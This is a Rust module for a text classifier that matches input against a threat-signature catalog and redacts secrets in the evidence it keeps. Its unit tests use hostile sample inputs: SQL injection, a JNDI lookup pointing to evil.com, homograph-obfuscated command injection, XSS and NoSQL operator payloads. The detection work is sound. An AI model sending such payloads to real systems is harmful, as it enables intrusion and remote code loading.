//! Text classifier over the signature catalog.

use std::ops::Range;

use serde::Serialize;

use super::patterns::{
    CompiledRule, LeakKind, PatternCatalog, PatternRule, Severity, ThreatCategory, LOG_MARKERS,
};
use crate::error::Result;
use crate::normalize::normalize;

/// Longest evidence snippet kept on a match (chars).
///
/// Applied at match time, before the monitor contains evidence again under
/// the looser [`MAX_EVIDENCE_LEN`](crate::monitor::event::MAX_EVIDENCE_LEN)
/// cap, which also absorbs entity encoding that can grow a snippet.
pub const MAX_EVIDENCE_CHARS: usize = 64;

/// Placeholder for evidence that would echo a secret
pub const REDACTED: &str = "***REDACTED***";

/// A single signature hit
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct PatternMatch {
    /// Id of the signature that fired
    pub rule_id: &'static str,
    /// Threat category
    pub category: ThreatCategory,
    /// Severity
    pub severity: Severity,
    /// Leaked data kind, for `DATA_LEAK` matches
    #[serde(skip_serializing_if = "Option::is_none")]
    pub leak: Option<LeakKind>,
    /// Matched text, capped and possibly redacted
    pub evidence: String,
}

impl PatternMatch {
    pub(crate) fn from_rule(rule: &PatternRule, evidence: String) -> Self {
        let severity = rule.leak.map_or(rule.severity, LeakKind::severity);
        Self {
            rule_id: rule.id,
            category: rule.category,
            severity,
            leak: rule.leak,
            evidence,
        }
    }
}

/// Pure, reentrant classifier. Cheap to copy.
#[derive(Debug, Clone, Copy)]
pub struct Classifier {
    catalog: &'static PatternCatalog,
}

impl Classifier {
    /// Create a classifier over the global catalog
    pub fn new() -> Result<Self> {
        Ok(Self {
            catalog: PatternCatalog::global()?,
        })
    }

    /// Catalog backing this classifier
    pub fn catalog(&self) -> &'static PatternCatalog {
        self.catalog
    }

    /// Classify free text. At most one match per category.
    pub fn classify(&self, text: &str) -> Vec<PatternMatch> {
        let prepared = prepare(text);
        let mut matches = Vec::new();
        self.scan_text(&prepared, &[], &mut matches);
        matches
    }

    /// Check a log line against the log markers. Returns the first hit.
    pub fn classify_log_line(&self, line: &str) -> Option<PatternMatch> {
        let prepared = prepare(line);
        LOG_MARKERS
            .iter()
            .find(|(marker, _, _)| prepared.contains(marker))
            .map(|&(marker, category, severity)| PatternMatch {
                rule_id: "log_marker",
                category,
                severity,
                leak: None,
                evidence: marker.to_string(),
            })
    }

    /// Run the text signatures over already prepared text. Matches that
    /// overlap a secret span report [`REDACTED`] as evidence.
    pub(crate) fn scan_text(
        &self,
        prepared: &str,
        secret_spans: &[Range<usize>],
        out: &mut Vec<PatternMatch>,
    ) {
        for compiled in self.catalog.text_rules() {
            if out.iter().any(|m| m.category == compiled.rule.category) {
                continue;
            }
            if let Some(found) = compiled.regex.find(prepared) {
                let evidence = if overlaps(found.range(), secret_spans) {
                    REDACTED.to_string()
                } else {
                    snippet(found.as_str())
                };
                out.push(PatternMatch::from_rule(compiled.rule, evidence));
            }
        }
    }

    /// Run the personal-data signatures. One match per leak kind; evidence
    /// is always the signature's redaction label.
    pub(crate) fn scan_leaks(&self, prepared: &str, out: &mut Vec<PatternMatch>) {
        for compiled in self.catalog.leak_rules() {
            if already_leaked(out, compiled) {
                continue;
            }
            if compiled.regex.is_match(prepared) {
                out.push(PatternMatch::from_rule(
                    compiled.rule,
                    compiled.rule.redaction.to_string(),
                ));
            }
        }
    }
}

/// Normalize and lowercase for matching
pub(crate) fn prepare(text: &str) -> String {
    normalize(text).to_lowercase()
}

fn already_leaked(out: &[PatternMatch], compiled: &CompiledRule) -> bool {
    compiled.rule.leak.is_some() && out.iter().any(|m| m.leak == compiled.rule.leak)
}

fn overlaps(range: Range<usize>, spans: &[Range<usize>]) -> bool {
    spans
        .iter()
        .any(|s| range.start < s.end && s.start < range.end)
}

fn snippet(matched: &str) -> String {
    matched.chars().take(MAX_EVIDENCE_CHARS).collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn categories(matches: &[PatternMatch]) -> Vec<ThreatCategory> {
        matches.iter().map(|m| m.category).collect()
    }

    #[test]
    fn test_sql_injection() {
        let classifier = Classifier::new().unwrap();
        let matches = classifier.classify("SELECT * FROM users WHERE id=1' OR '1'='1");
        let cats = categories(&matches);
        assert!(cats.contains(&ThreatCategory::SqlInjection));
        assert!(cats.contains(&ThreatCategory::BulkDataAccess));
    }

    #[test]
    fn test_template_lookup_is_critical() {
        let classifier = Classifier::new().unwrap();
        let matches = classifier.classify("${jndi:ldap://evil.com/a}");
        let hit = matches
            .iter()
            .find(|m| m.category == ThreatCategory::TemplateLookupInjection)
            .unwrap();
        assert_eq!(hit.severity, Severity::Critical);
        assert_eq!(hit.rule_id, "template_dollar_brace");
    }

    #[test]
    fn test_one_match_per_category() {
        let classifier = Classifier::new().unwrap();
        // Three SQL signatures fire, one match is kept
        let matches = classifier.classify("union select 1 -- and 1=1");
        let sql = matches
            .iter()
            .filter(|m| m.category == ThreatCategory::SqlInjection)
            .count();
        assert_eq!(sql, 1);
    }

    #[test]
    fn test_homograph_evasion_caught() {
        let classifier = Classifier::new().unwrap();
        // Cyrillic е and fullwidth letters
        let matches = classifier.classify("ｅｘеc(ls)");
        assert!(categories(&matches).contains(&ThreatCategory::CommandInjection));
    }

    #[test]
    fn test_xss_and_nosql() {
        let classifier = Classifier::new().unwrap();
        assert!(categories(&classifier.classify("<img onerror=x>")).contains(&ThreatCategory::Xss));
        assert!(categories(&classifier.classify(r#"{"user":{"$ne":null}}"#))
            .contains(&ThreatCategory::NosqlInjection));
    }

    #[test]
    fn test_benign_text() {
        let classifier = Classifier::new().unwrap();
        assert!(classifier.classify("What is the capital of France?").is_empty());
        assert!(classifier.classify("").is_empty());
    }

    // Match evidence must fit inside event evidence
    const _: () = assert!(MAX_EVIDENCE_CHARS < crate::monitor::event::MAX_EVIDENCE_LEN);

    #[test]
    fn test_evidence_capped() {
        let classifier = Classifier::new().unwrap();
        let long = format!("x ${{{}", "a".repeat(200));
        let matches = classifier.classify(&long);
        assert!(matches
            .iter()
            .all(|m| m.evidence.chars().count() <= MAX_EVIDENCE_CHARS));
    }

    #[test]
    fn test_log_markers() {
        let classifier = Classifier::new().unwrap();

        let hit = classifier
            .classify_log_line("GET /?q=${JNDI:ldap://x/a} 200")
            .unwrap();
        assert_eq!(hit.category, ThreatCategory::TemplateLookupInjection);
        assert_eq!(hit.evidence, "${jndi:");

        // Markers are literal substrings
        assert!(classifier.classify_log_line("q=1 UNION  SELECT").is_none());

        // Brackets alone are routine in logs
        assert!(classifier
            .classify_log_line("[2024-01-01] INFO (worker) {ok}")
            .is_none());
    }

    #[test]
    fn test_overlap() {
        assert!(overlaps(2..5, &[4..8]));
        assert!(!overlaps(2..4, &[4..8]));
        assert!(!overlaps(0..1, &[]));
    }
}
